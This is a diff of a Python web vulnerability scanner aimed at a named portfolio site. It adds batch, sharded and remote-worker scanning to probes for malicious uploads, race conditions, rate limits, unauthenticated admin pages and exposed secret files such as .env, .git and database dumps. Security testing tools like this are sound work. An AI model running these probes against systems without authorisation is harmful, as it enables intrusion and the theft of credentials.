-                                               files=files, timeout=10)
-                    
-                    if response.status_code in [200, 201]:
-                        self.log('medium', f"Double extension bypass: {endpoint}",
-                                {'filename': double_ext_name})
-                        
-                except Exception:
-                    continue
+                files = {'file': (filename, content, 'application/octet-stream')}
+                plan.add(Probe('POST', endpoint, self._detect_malicious_upload, files=files,
+                               timeout=10, context={'filename': filename, 'content': content},
+                               then=self._double_extension_probe, module='file_upload'))
+        return plan
 
-    def test_business_logic_vulnerabilities(self):
-        """Business logic vulnerability testing"""
-        print("\n=== BUSINESS LOGIC VULNERABILITY TESTING ===")
-        
-        # Test rate limiting
-        self._test_rate_limiting()
-        
-        # Test race conditions
-        self._test_race_conditions()
-        
-        # Test input validation bypass
-        self._test_input_validation_bypass()
-        
-        # Test workflow bypass
-        self._test_workflow_bypass()
+    def _detect_malicious_upload(self, probe, response):
+        filename = probe.context['filename']
+        if response.status_code in [200, 201]:
+            yield ('high', f"Malicious file upload accepted: {probe.path}",
+                   {'filename': filename, 'status': response.status_code})
+            
+            # Check if file is accessible
+            if 'path' in response.text or 'url' in response.text:
+                yield ('critical', f"Uploaded file may be accessible: {probe.path}",
+                       {'filename': filename, 'response': response.text[:200]})
+
+    def _double_extension_probe(self, probe, response):
+        # Test double extension bypass
+        double_ext_name = probe.context['filename'].replace('.', '.jpg.')
+        files = {'file': (double_ext_name, probe.context['content'], 'image/jpeg')}
+        return Probe('POST', probe.path, self._detect_double_extension, files=files,
+                     timeout=10, context={'filename': double_ext_name}, module=probe.module)
+
+    def _detect_double_extension(self, probe, response):
+        if response.status_code in [200, 201]:
+            yield ('medium', f"Double extension bypass: {probe.path}",
+                   {'filename': probe.context['filename']})
+
+    def test_business_logic_vulnerabilities(self, max_parallel=4):
+        """Business logic vulnerability testing: the rate-limit, race, input validation and workflow modules"""
+        self.console.info("\n=== BUSINESS LOGIC VULNERABILITY TESTING ===")
+        self.modules(attack_plan=False).subset(BUSINESS_LOGIC_MODULES).run(max_parallel, runner=self.step)
 
     def _test_rate_limiting(self):
         """Test rate limiting implementation"""
         sensitive_endpoints = ['/admin/login', '/api/contact', '/api/auth']
         
-        for endpoint in sensitive_endpoints:
-            start_time = time.time()
-            responses = []
-            
-            for i in range(50):  # Send 50 requests rapidly
-                try:
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json={"test": f"rate_limit_{i}"},
-                                               timeout=2)
-                    responses.append(response.status_code)
-                    
-                    if response.status_code == 429:  # Rate limited
-                        self.log('info', f"Rate limiting detected: {endpoint}",
-                                {'requests_before_limit': i+1})
-                        break
-                        
-                except Exception:
-                    continue
+        # Requests go out on a fixed schedule rather than after each reply, so the first 429
+        # marks the server's limit and not our round-trip time; endpoints run side by side
+        bursts = self.transport.run(self._rate_limit_bursts(sensitive_endpoints))
+        
+        for endpoint, burst in zip(sensitive_endpoints, bursts):
+            details = burst.summary()
+            if burst.limited:
+                details['requests_before_limit'] = burst.first_limited + 1
+                self.log('info', f"Rate limiting detected: {endpoint}", details)
             
             # Check if no rate limiting was implemented
-            if 429 not in responses and len(responses) > 30:
-                self.log('medium', f"No rate limiting detected: {endpoint}",
-                        {'total_requests': len(responses)})
+            elif burst.completed > 30:
+                details['total_requests'] = burst.completed
+                self.log('medium', f"No rate limiting detected: {endpoint}", details)
 
-    def _test_race_conditions(self):
+    async def _rate_limit_bursts(self, endpoints):
+        burst = OpenLoopBurst(self.transport, rps=self.burst_rps, requests=self.burst_requests)
+        return await asyncio.gather(*(
+            burst.arun('POST', f"{self.target}{endpoint}", lambda i: {'json': {"test": f"rate_limit_{i}"}})
+            for endpoint in endpoints
+        ))
+
+    def _test_race_conditions(self, endpoints=('/admin/projects',)):
         """Test for race condition vulnerabilities"""
-        def make_request(endpoint, data):
-            try:
-                return self.session.post(f"{self.target}{endpoint}", json=data, timeout=5)
-            except:
-                return None
-        
         # Test concurrent admin operations
-        endpoint = '/admin/projects'
         test_data = {"name": "Race Test", "description": "Testing race conditions"}
         
-        # Send 10 concurrent requests
-        with ThreadPoolExecutor(max_workers=10) as executor:
-            futures = [executor.submit(make_request, endpoint, test_data) for _ in range(10)]
-            responses = [f.result() for f in futures if f.result()]
-        
-        success_count = sum(1 for r in responses if r.status_code in [200, 201])
-        if success_count > 1:
-            self.log('medium', f"Potential race condition: {endpoint}",
-                    {'successful_concurrent_operations': success_count})
+        for endpoint in endpoints:
+            race = self.race_admin_endpoint(endpoint, json=test_data)
+            
+            success_count = race.successes()
+            if success_count > 1:
+                details = race.summary()
+                details['successful_concurrent_operations'] = success_count
+                self.log('medium', f"Potential race condition: {endpoint}", details)
+
+    def race_admin_endpoint(self, endpoint, method='POST', count=10, **kwargs):
+        """Release count identical requests to an /admin/* endpoint within microseconds of each other"""
+        if endpoint not in self.ADMIN_ENDPOINTS:
+            raise ValueError(f"Not a known admin endpoint: {endpoint}")
+        return self.race_engine.race(method, f"{self.target}{endpoint}", count, **kwargs)
 
     def _test_input_validation_bypass(self):
         """Test input validation bypass"""
@@ -676,18 +808,18 @@ class PortfolioVulnScanner:
             {"name": "test", "email": ""},
         ]
         
-        for endpoint in endpoints:
-            for payload in bypass_payloads:
-                try:
-                    response = self.session.post(f"{self.target}{endpoint}",
-                                               json=payload, timeout=5)
-                    
-                    if response.status_code in [200, 201]:
-                        self.log('medium', f"Input validation bypass: {endpoint}",
-                                {'payload': str(payload)})
-                                
-                except Exception:
-                    continue
+        probes = [(endpoint, payload) for endpoint in endpoints for payload in bypass_payloads]
+        responses = self.transport.fetch_all([
+            {'method': 'POST', 'url': f"{self.target}{endpoint}", 'json': payload, 'timeout': 5}
+            for endpoint, payload in probes
+        ])
+        
+        for (endpoint, payload), response in zip(probes, responses):
+            if response is None:
+                continue
+            if response.status_code in [200, 201]:
+                self.log('medium', f"Input validation bypass: {endpoint}",
+                        {'payload': str(payload)})
 
     def _test_workflow_bypass(self):
         """Test business workflow bypass"""
@@ -695,99 +827,140 @@ class PortfolioVulnScanner:
         admin_endpoints = ['/admin/dashboard', '/admin/settings']
         
         # Try to access admin functions directly
-        for endpoint in admin_endpoints:
-            try:
-                response = self.session.get(f"{self.target}{endpoint}", timeout=5)
-                
-                if response.status_code == 200:
-                    admin_content = any(keyword in response.text.lower() 
-                                      for keyword in ['admin', 'dashboard', 'manage'])
-                    
-                    if admin_content:
-                        self.log('critical', f"Workflow bypass - admin access without auth: {endpoint}")
-                        
-            except Exception:
+        self.baseline.learn(self.target)
+        responses = self.transport.fetch_all([
+            {'method': 'GET', 'url': f"{self.target}{endpoint}", 'timeout': 5}
+            for endpoint in admin_endpoints
+        ])
+        
+        for endpoint, response in zip(admin_endpoints, responses):
+            if response is None or self.baseline.matches(response):
                 continue
+            if response.status_code == 200:
+                admin_content = INDICATORS.scan(response).hit('workflow_admin')
+        
+                if admin_content:
+                    self.log('critical', f"Workflow bypass - admin access without auth: {endpoint}")
 
     def test_information_disclosure(self):
         """Test for information disclosure vulnerabilities"""
-        print("\n=== INFORMATION DISCLOSURE TESTING ===")
+        self.console.info("\n=== INFORMATION DISCLOSURE TESTING ===")
         
         # Sensitive files
         sensitive_files = [
             '/.env', '/.env.local', '/.env.production',
             '/package.json', '/yarn.lock', '/package-lock.json',
-            '/.git/config', '/.git/HEAD', '/.gitignore',
+            '/.git/config', '/.gitignore',
             '/webpack.config.js', '/vite.config.js', '/tsconfig.json',
             '/vercel.json', '/.vercel', '/web.config',
             '/config.json', '/app.json', '/manifest.json',
-            '/backup', '/backup.zip', '/database.sql',
-            '/.DS_Store', '/.htaccess', '/robots.txt',
+            '/backup', '/.htaccess', '/robots.txt',
             '/sitemap.xml', '/crossdomain.xml', '/clientaccesspolicy.xml'
         ]
         
-        for file_path in sensitive_files:
-            try:
-                response = self.session.get(f"{self.target}{file_path}", timeout=5)
-                
-                if response.status_code == 200 and len(response.text) > 10:
-                    # Check if it's actually sensitive content
-                    sensitive_keywords = [
-                        'password', 'secret', 'key', 'token', 'api_key',
-                        'database_url', 'connection_string', 'private_key'
-                    ]
-                    
-                    content_lower = response.text.lower()
-                    if any(keyword in content_lower for keyword in sensitive_keywords):
-                        self.log('critical', f"Sensitive information exposed: {file_path}",
-                                {'size': len(response.text)})
-                    else:
-                        self.log('info', f"File exposed: {file_path}",
-                                {'size': len(response.text)})
-                        
-            except Exception:
-                continue
+        # Binary artifacts only need their first bytes to be identified
+        artifact_files = ['/backup.zip', '/database.sql', '/.DS_Store', '/.git/HEAD']
         
         # Test for directory listing
         directories = ['/', '/admin', '/api', '/assets', '/static', '/uploads']
         
-        for directory in directories:
-            try:
-                response = self.session.get(f"{self.target}{directory}", timeout=5)
-                
-                if 'index of' in response.text.lower() or 'directory listing' in response.text.lower():
-                    self.log('medium', f"Directory listing enabled: {directory}")
-                    
-            except Exception:
+        self.baseline.learn(self.target)
+        # Scan file bodies as they stream in and hang up once the verdict cannot change
+        streams = [INDICATORS.stream(until=self._disclosure_verdict) for _ in sensitive_files]
+        responses = self.transport.fetch_all([
+            {'method': 'GET', 'url': f"{self.target}{path}", 'timeout': 5,
+             'max_bytes': DISCLOSURE_READ_LIMIT, 'on_chunk': stream}
+            for path, stream in zip(sensitive_files, streams)
+        ] + [
+            # The cap also covers servers that ignore Range and send the whole file
+            {'method': 'GET', 'url': f"{self.target}{path}", 'timeout': 5,
+             'headers': range_headers(), 'max_bytes': SNIFF_BYTES}
+            for path in artifact_files
+        ] + [
+            {'method': 'GET', 'url': f"{self.target}{path}", 'timeout': 5}
+            for path in directories
+        ])
+        file_responses = responses[:len(sensitive_files)]
+        artifact_responses = responses[len(sensitive_files):len(sensitive_files) + len(artifact_files)]
+        directory_responses = responses[len(sensitive_files) + len(artifact_files):]
+        
+        for file_path, stream, response in zip(sensitive_files, streams, file_responses):
+            # A byte-identical copy of the SPA shell means the file is not really there
+            if response is None or self.baseline.matches(response):
+                continue
+        
+            if response.status_code == 200 and stream.chars > 10:
+                # Reading stops early, so what was read says little about how big the file is
+                size = total_size(response)
+                if size is None and not response.truncated:
+                    size = len(response.content)
+                details = {'size': size, 'bytes_read': stream.chars}
+                if response.truncated:
+                    details['truncated'] = True
+                # Check if it's actually sensitive content
+                if stream.hit('sensitive'):
+                    self.log('critical', f"Sensitive information exposed: {file_path}", details)
+                else:
+                    self.log('info', f"File exposed: {file_path}", details)
+        
+        for file_path, response in zip(artifact_files, artifact_responses):
+            # A prefix of the SPA shell means the file is not really there
+            if response is None or response.status_code not in (200, 206) \
+                    or self.baseline.matches_head(response):
+                continue
+            
+            details = {'size': total_size(response), 'bytes_read': len(response.content)}
+            artifact = sniff_artifact(response.content)
+            if artifact:
+                kind, description = artifact
+                details['type'] = description
+                self.log(ARTIFACT_SEVERITY.get(kind, 'critical'), f"Sensitive artifact exposed: {file_path}", details)
+            elif len(response.content) > 10:
+                self.log('info', f"File exposed: {file_path}", details)
+        
+        for directory, response in zip(directories, directory_responses):
+            if response is None or self.baseline.matches(response):
                 continue
+            if INDICATORS.scan(response).hit('directory_listing'):
+                self.log('medium', f"Directory listing enabled: {directory}")
+
+    def _disclosure_verdict(self, stream):
+        """Stop reading a file once it is known to be sensitive and known not to be the SPA shell"""
+        return stream.hit('sensitive') and self.baseline.excludes(stream.response)
 
-    def generate_report(self):
-        """Generate comprehensive vulnerability report"""
+    def generate_report(self, suffix='', profiler=None):
+        """Generate comprehensive vulnerability report; with a profiler, its hot spots and allocators too"""
+        # Everything the tests logged is on screen before the report lines
+        self.console.close()
         timestamp = time.strftime('%Y%m%d_%H%M%S')
-        report_file = f"portfolio_vuln_report_{timestamp}.md"
+        writer = ReportWriter(f"portfolio_vuln_report_{timestamp}{suffix}", 'Portfolio Vulnerability Scanner',
+                              self.target)
+        report_file = writer.markdown_file
         
-        total_findings = sum(len(findings) for findings in self.results.values())
+        severity_counts = self.findings_store.severity_counts()
+        total_findings = sum(severity_counts.values())
         
-        report = f"""# Portfolio Application Vulnerability Assessment Report
+        writer.markdown(f"""# Portfolio Application Vulnerability Assessment Report
 
 **Target:** {self.target}
 **Scan Date:** {time.strftime('%Y-%m-%d %H:%M:%S')}
 **Total Findings:** {total_findings}
+**Probes Skipped:** {self.breaker.skipped_total()} (dead endpoints and refused methods)
 
 ## Executive Summary
 
 This report contains the results of a comprehensive security assessment of the portfolio application.
 
 ### Severity Distribution
-- 🔴 **Critical:** {len(self.results['critical'])} findings
-- 🟠 **High:** {len(self.results['high'])} findings  
-- 🟡 **Medium:** {len(self.results['medium'])} findings
-- 🔵 **Low:** {len(self.results['low'])} findings
-- 🟢 **Informational:** {len(self.results['info'])} findings
+- 🔴 **Critical:** {severity_counts.get('critical', 0)} findings
+- 🟠 **High:** {severity_counts.get('high', 0)} findings  
+- 🟡 **Medium:** {severity_counts.get('medium', 0)} findings
+- 🔵 **Low:** {severity_counts.get('low', 0)} findings
+- 🟢 **Informational:** {severity_counts.get('info', 0)} findings
 
 ## Detailed Findings
 
-"""
+""")
         
         severity_emojis = {
             'critical': '🔴',
@@ -798,22 +971,41 @@ This report contains the results of a comprehensive security assessment of the p
         }
         
         for severity in ['critical', 'high', 'medium', 'low', 'info']:
-            if self.results[severity]:
-                report += f"\n### {severity_emojis[severity]} {severity.upper()} Findings\n\n"
+            if severity_counts.get(severity):
+                writer.markdown(f"\n### {severity_emojis[severity]} {severity.upper()} Findings\n\n")
                 
-                for i, finding in enumerate(self.results[severity], 1):
-                    report += f"#### {severity.upper()}-{i:02d}: {finding['message']}\n\n"
-                    report += f"**Timestamp:** {finding['timestamp']}\n\n"
+                # Each finding is rendered and written on its own; nothing accumulates
+                for i, finding in enumerate(self.findings_store.query(severity=severity), 1):
+                    lines = [f"#### {severity.upper()}-{i:02d}: {finding['message']}\n\n",
+                             f"**Timestamp:** {finding['timestamp']}\n\n"]
                     
                     if finding['details']:
-                        report += "**Details:**\n"
+                        lines.append("**Details:**\n")
                         for key, value in finding['details'].items():
-                            report += f"- {key}: `{value}`\n"
-                        report += "\n"
+                            lines.append(f"- {key}: `{value}`\n")
+                        lines.append("\n")
                     
-                    report += "---\n\n"
+                    if finding.get('occurrences', 1) > 1:
+                        lines.append(f"**Occurrences:** {finding['occurrences']}\n\n")
+                        lines.append("**Sample payloads:**\n")
+                        for sample in finding['samples']:
+                            lines.append(f"- `{sample}`\n")
+                        lines.append("\n")
+                    
+                    lines.append("---\n\n")
+                    writer.finding(severity, finding, ''.join(lines))
+        
+        if self.breaker.skipped:
+            writer.markdown(f"\n## Skipped Probes\n\n{self.breaker.skipped_total()} probes were not sent because "
+                            f"their endpoint was down or refused the method.\n\n"
+                            f"| Endpoint | Reason | Probes skipped |\n|---|---|---|\n")
+            for (endpoint, reason), count in sorted(self.breaker.skipped.items()):
+                writer.markdown(f"| `{endpoint}` | {reason} | {count} |\n")
+        
+        if profiler is not None:
+            writer.markdown(profiler.markdown())
         
-        report += """
+        writer.markdown("""
 ## Recommendations
 
 ### Immediate Actions Required
@@ -836,15 +1028,210 @@ Critical and high-severity issues pose immediate risks and require urgent attent
 
 ---
 *Report generated by Portfolio Vulnerability Scanner*
-"""
-        
-        with open(report_file, 'w') as f:
-            f.write(report)
+""")
+        writer.close()
             
         print(f"\n📄 Report generated: {report_file}")
+        print(f"   Also written: {writer.jsonl_file}, {writer.sarif_file}")
         return report_file
 
+def attack_plan_worker(target, http2=False):
+    """Builder for shard workers: an executor, the attack plan for one target and what releases them"""
+    # Detectors are the scanner's own methods, so the worker builds a whole scanner; closing it stops its
+    # console thread and closes its (in-memory) findings store and checkpoint along with the transport
+    scanner = PortfolioVulnScanner(target, http2=http2)
+    return scanner.executor, scanner.attack_plan(), scanner.close
+
+
+def run_sharded(scanners, args, console):
+    """Run each scanner's attack plan across shard workers, logging the findings into that scanner"""
+    address = parse_address(args.listen) if args.listen else ('127.0.0.1', 0)
+    authkey = args.authkey.encode() if args.authkey else None
+    coordinator = Coordinator({target: scanner.attack_plan() for target, scanner in scanners.items()},
+                              args.shard_size, address, authkey)
+    console.info(f"🧩 Attack plan split into {len(coordinator.shards)} shards for {args.workers} local workers"
+                 + (f", remote workers may join at {args.listen}" if args.listen else ''))
+    coordinator.run(lambda target, *finding: scanners[target].log(*finding), announce=console,
+                    workers=args.workers, build=functools.partial(attack_plan_worker, http2=args.http2),
+                    remote=bool(args.listen), progress=console)
+    # Probes the workers' breakers skipped belong in each target's report
+    for target, skipped in coordinator.skipped.items():
+        for (endpoint, reason), count in skipped.items():
+            scanners[target].breaker.skip(endpoint, reason, count)
+    return coordinator
+
+
+def run_batch(args, console):
+    """Scan every target in args.targets through one shared transport and findings store"""
+    targets = read_targets(args.targets)
+    print("🔥 ADVANCED PORTFOLIO VULNERABILITY SCANNER - BATCH")
+    print(f"🎯 Targets: {len(targets)} from {args.targets} ({args.max_targets} at a time)")
+    print(f"🚦 Concurrency: {args.global_concurrency} in flight overall, adaptive up to {args.per_host} per host")
+    print(f"⏰ Started: {time.strftime('%Y-%m-%d %H:%M:%S')}")
+    print("=" * 60)
+
+    # One transport for the whole batch: its global semaphore is the shared budget, per-host ones keep it fair
+    metrics = ProbeMetrics()
+    metrics_server = serve_metrics(metrics, args.metrics_port)
+    transport = AsyncTransport(max_concurrency=args.global_concurrency, per_host_limit=args.per_host,
+                               cache=ResponseCache(), http2=args.http2, metrics=metrics)
+    findings_store = FindingsStore(args.findings_db, 'advanced_vuln_scanner', 'batch')
+    console.watch(transport)
+    scanners = {target: PortfolioVulnScanner(target, max_concurrency=args.per_host, transport=transport,
+                                             findings_store=findings_store.scoped(target), console=console)
+                for target in targets}
+    sharded = bool(args.workers or args.listen)
+    coordinator = None
+    # Rate-limit and race modules time their traffic, so they run alone across every target, not just their own
+    gate = ExclusiveGate()
+
+    def scan(target):
+        registry = scanners[target].modules(attack_plan=not sharded)
+
+        def module_done(name):
+            # The attack plan reports its own probes to the progress bar
+            if name != 'attack_plan':
+                console.advance(f"{target} {name}")
+
+        console.add_total(sum(1 for module in registry if module.name != 'attack_plan'))
+        registry.run(args.parallel, on_done=module_done, gate=gate)
+
+    def target_done(target, error):
+        if error is None:
+            console.info(f"✅ {target}: {scanners[target].findings_store.count()} findings")
+        else:
+            console.info(f"❌ {target}: {error}")
+
+    batch = TargetBatch(targets, args.max_targets)
+    try:
+        if sharded:
+            # The probe matrix of every target is spread over the workers first
+            coordinator = run_sharded(scanners, args, console)
+        batch.run(scan, on_done=target_done)
+        console.close()
+
+        # Reports are written one target at a time once every scan has finished
+        for target, scanner in scanners.items():
+            if target not in batch.errors:
+                scanner.generate_report(f"_{target_slug(target)}")
+
+        print("\n" + "=" * 60)
+        print("🎉 BATCH SCAN COMPLETED")
+        for target in targets:
+            if target in batch.errors:
+                print(f"  ❌ {target}: {batch.errors[target]}")
+                continue
+            counts = findings_store.severity_counts(target=target)
+            breakdown = ', '.join(f"{counts[severity]} {severity}"
+                                  for severity in ('critical', 'high', 'medium', 'low', 'info') if severity in counts)
+            print(f"  🎯 {target}: {sum(counts.values())} findings ({breakdown or 'none'}), "
+                  f"{scanners[target].breaker.skipped_total()} probes skipped")
+        print(f"📊 Total Findings: {findings_store.count()}")
+        print(f"🗃️  Findings stored in {args.findings_db} (run {findings_store.run_id})")
+        if transport.cache is not None:
+            print(f"♻️  {transport.cache.summary()}")
+        if transport.throttle_summary():
+            print(f"🚦 {transport.throttle_summary()}")
+        if transport.http2_summary():
+            print(f"🔀 {transport.http2_summary()}")
+        print(f"📈 {metrics.summary()}")
+        if coordinator is not None:
+            print("🧩 Shard workers:")
+            for line in coordinator.summary():
+                print(f"   {line}")
+    except KeyboardInterrupt:
+        console.close()
+        print("\n⚠️  Batch interrupted by user")
+    finally:
+        transport.close()
+        findings_store.close()
+        console.close()
+        export_metrics(metrics, metrics_server, args.metrics_json)
+
+
 def main():
+    parser = argparse.ArgumentParser(description='Advanced Portfolio API Vulnerability Scanner')
+    parser.add_argument('--resume', action='store_true',
+                        help='continue an interrupted scan, skipping every probe it already completed')
+    parser.add_argument('--checkpoint', default='portfolio_vuln_scan.checkpoint.jsonl',
+                        help='file that records scan progress (default: %(default)s)')
+    parser.add_argument('--incremental', action='store_true',
+                        help='revalidate responses from the last run and only re-analyse what changed')
+    parser.add_argument('--fingerprints', default='portfolio_vuln_scan.fingerprints.json',
+                        help='file that keeps response fingerprints between runs (default: %(default)s)')
+    parser.add_argument('--findings-db', default='portfolio_findings.db',
+                        help='SQLite database findings are appended to (default: %(default)s)')
+    output = parser.add_mutually_exclusive_group()
+    output.add_argument('-q', '--quiet', action='store_true',
+                        help='show only a progress bar while scanning; findings go to the report')
+    output.add_argument('-v', '--verbose', action='store_true',
+                        help='also print every completed probe')
+    parser.add_argument('--parallel', type=int, default=4,
+                        help='test modules to run at the same time (default: %(default)s); rate-limit and race '
+                             'modules always run alone, across every target in a batch')
+    parser.add_argument('--metrics-json', default='portfolio_vuln_scan.metrics.json',
+                        help='JSON file for per-module and per-endpoint request timings (default: %(default)s)')
+    parser.add_argument('--metrics-port', type=int, metavar='PORT',
+                        help='serve live Prometheus metrics at http://127.0.0.1:PORT/metrics while scanning')
+    parser.add_argument('--http2', action='store_true',
+                        help='multiplex requests over one HTTP/2 connection per host (needs the h2 package); '
+                             'hosts without HTTP/2 stay on HTTP/1.1')
+    parser.add_argument('--profile', action='store_true',
+                        help='profile CPU time and allocations of each test module, one module at a time, and add '
+                             'hot spots and top allocators to the report')
+    parser.add_argument('--profile-dir', default='portfolio_vuln_scan.profile',
+                        help='directory for the raw .prof and tracemalloc files (default: %(default)s)')
+    batch = parser.add_argument_group('batch mode')
+    batch.add_argument('--targets', metavar='FILE',
+                       help='scan every target URL listed in FILE (one per line) instead of the portfolio')
+    batch.add_argument('--max-targets', type=int, default=8,
+                       help='targets scanned at the same time (default: %(default)s)')
+    batch.add_argument('--global-concurrency', type=int, default=64,
+                       help='requests in flight across all targets (default: %(default)s)')
+    batch.add_argument('--per-host', type=int, default=16,
+                       help='ceiling for the adaptive per-host limit (default: %(default)s)')
+    shards = parser.add_argument_group('sharded mode')
+    shards.add_argument('--workers', type=int, default=0,
+                        help='local worker processes to spread the attack plan over (default: run it in-process)')
+    shards.add_argument('--listen', metavar='HOST:PORT',
+                        help='also accept remote workers on this address (requires --authkey)')
+    shards.add_argument('--shard-size', type=int, default=25,
+                        help='probes handed to a worker at a time (default: %(default)s)')
+    shards.add_argument('--worker', metavar='HOST:PORT',
+                        help='run as a worker for the coordinator at this address instead of scanning')
+    shards.add_argument('--authkey',
+                        help='shared secret between the coordinator and remote workers')
+    args = parser.parse_args()
+    if args.http2 and not HTTP2_AVAILABLE:
+        parser.error('--http2 needs the h2 package (pip install h2)')
+
+    if args.worker:
+        if not args.authkey:
+            parser.error('--worker requires --authkey')
+        print(f"🧩 Worker for coordinator at {args.worker}")
+        try:
+            run_worker(parse_address(args.worker), args.authkey.encode(),
+                       functools.partial(attack_plan_worker, http2=args.http2))
+        except (OSError, multiprocessing.AuthenticationError) as e:
+            print(f"❌ Could not work for {args.worker}: {e}")
+            return
+        print("✅ Coordinator finished; worker exiting")
+        return
+    if args.listen and not args.authkey:
+        parser.error('--listen requires --authkey')
+    sharded = bool(args.workers or args.listen)
+    # Checkpoints and fingerprints describe a single in-process scan
+    if (args.targets or sharded) and (args.resume or args.incremental):
+        parser.error('--resume and --incremental apply to single-target, unsharded scans only')
+    # Profiles are per module of one scan in this process
+    if (args.targets or sharded) and args.profile:
+        parser.error('--profile applies to single-target, unsharded scans only')
+
+    console = Console('quiet' if args.quiet else 'verbose' if args.verbose else 'normal')
+    if args.targets:
+        run_batch(args, console)
+        return
+    
     target_url = "https://my-digital-portfolio-git-main-sajal-basnets-projects.vercel.app"
     
     print("🔥 ADVANCED PORTFOLIO VULNERABILITY SCANNER")
@@ -852,29 +1239,79 @@ def main():
     print(f"⏰ Started: {time.strftime('%Y-%m-%d %H:%M:%S')}")
     print("=" * 60)
     
-    scanner = PortfolioVulnScanner(target_url)
+    checkpoint = Checkpoint(args.checkpoint, 'advanced_vuln_scanner', target_url, resume=args.resume)
+    if checkpoint.resumed:
+        print(f"⏯️  Resuming: {len(checkpoint.completed)} completed steps/probes, "
+              f"{len(checkpoint.findings)} findings restored")
+    rescan = RescanStore(args.fingerprints, target_url) if args.incremental else None
+    findings_store = FindingsStore(args.findings_db, 'advanced_vuln_scanner', target_url)
+    metrics = ProbeMetrics()
+    metrics_server = serve_metrics(metrics, args.metrics_port)
+    scanner = PortfolioVulnScanner(target_url, checkpoint=checkpoint, rescan=rescan, findings_store=findings_store,
+                                   console=console, http2=args.http2, metrics=metrics)
+    profiler = ModuleProfiler(args.profile_dir, scanner.transport) if args.profile else None
     
+    coordinator = None
     try:
-        # Run all tests
-        scanner.test_api_endpoints()
-        scanner.test_admin_functions() 
-        scanner.test_injection_vulnerabilities()
-        scanner.test_file_upload_vulnerabilities()
-        scanner.test_business_logic_vulnerabilities()
-        scanner.test_information_disclosure()
+        if sharded:
+            coordinator = run_sharded({scanner.target: scanner}, args, console)
+
+        # Run all tests, independent modules side by side; each module is a resumable step
+        registry = scanner.modules(attack_plan=not sharded)
+
+        def module_done(name):
+            # The attack plan reports its own probes to the progress bar
+            if name != 'attack_plan':
+                console.advance(name)
+
+        console.add_total(sum(1 for module in registry if module.name != 'attack_plan'))
+        if profiler is not None:
+            # One module at a time, so the loop thread and the allocations belong to the module profiled
+            try:
+                registry.run(1, runner=profiler.wrap(scanner.step), on_done=module_done)
+            finally:
+                profiler.close()
+        else:
+            registry.run(args.parallel, runner=scanner.step, on_done=module_done)
         
         # Generate report
-        report_file = scanner.generate_report()
+        report_file = scanner.generate_report(profiler=profiler)
         
         print("\n" + "=" * 60)
         print("🎉 VULNERABILITY SCAN COMPLETED")
-        print(f"📊 Total Findings: {sum(len(findings) for findings in scanner.results.values())}")
+        print(f"📊 Total Findings: {findings_store.count()}")
         print(f"📄 Report: {report_file}")
+        print(f"🗃️  Findings stored in {args.findings_db} (run {findings_store.run_id})")
+        if scanner.transport.cache is not None:
+            print(f"♻️  {scanner.transport.cache.summary()}")
+        if scanner.transport.throttle_summary():
+            print(f"🚦 {scanner.transport.throttle_summary()}")
+        if scanner.transport.http2_summary():
+            print(f"🔀 {scanner.transport.http2_summary()}")
+        print(f"📈 {metrics.summary()}")
+        if profiler is not None:
+            print(f"🔬 {profiler.summary()}")
+        print(f"🪞 {scanner.baseline.summary()}")
+        print(f"⏭️  {scanner.breaker.summary()}")
+        if findings_store.folded:
+            print(f"🧮 {findings_store.folded} repeated findings folded into {findings_store.count()} groups")
+        if rescan is not None:
+            print(f"🔁 {rescan.summary()}")
+        if coordinator is not None:
+            print("🧩 Shard workers:")
+            for line in coordinator.summary():
+                print(f"   {line}")
         
     except KeyboardInterrupt:
+        console.close()
         print("\n⚠️  Scan interrupted by user")
+        print(f"💾 Progress saved to {args.checkpoint}; rerun with --resume to continue")
     except Exception as e:
+        console.close()
         print(f"\n❌ Error during scan: {e}")
+    finally:
+        scanner.close()
+        export_metrics(metrics, metrics_server, args.metrics_json)
 
 if __name__ == "__main__":
     main()
\ No newline at end of file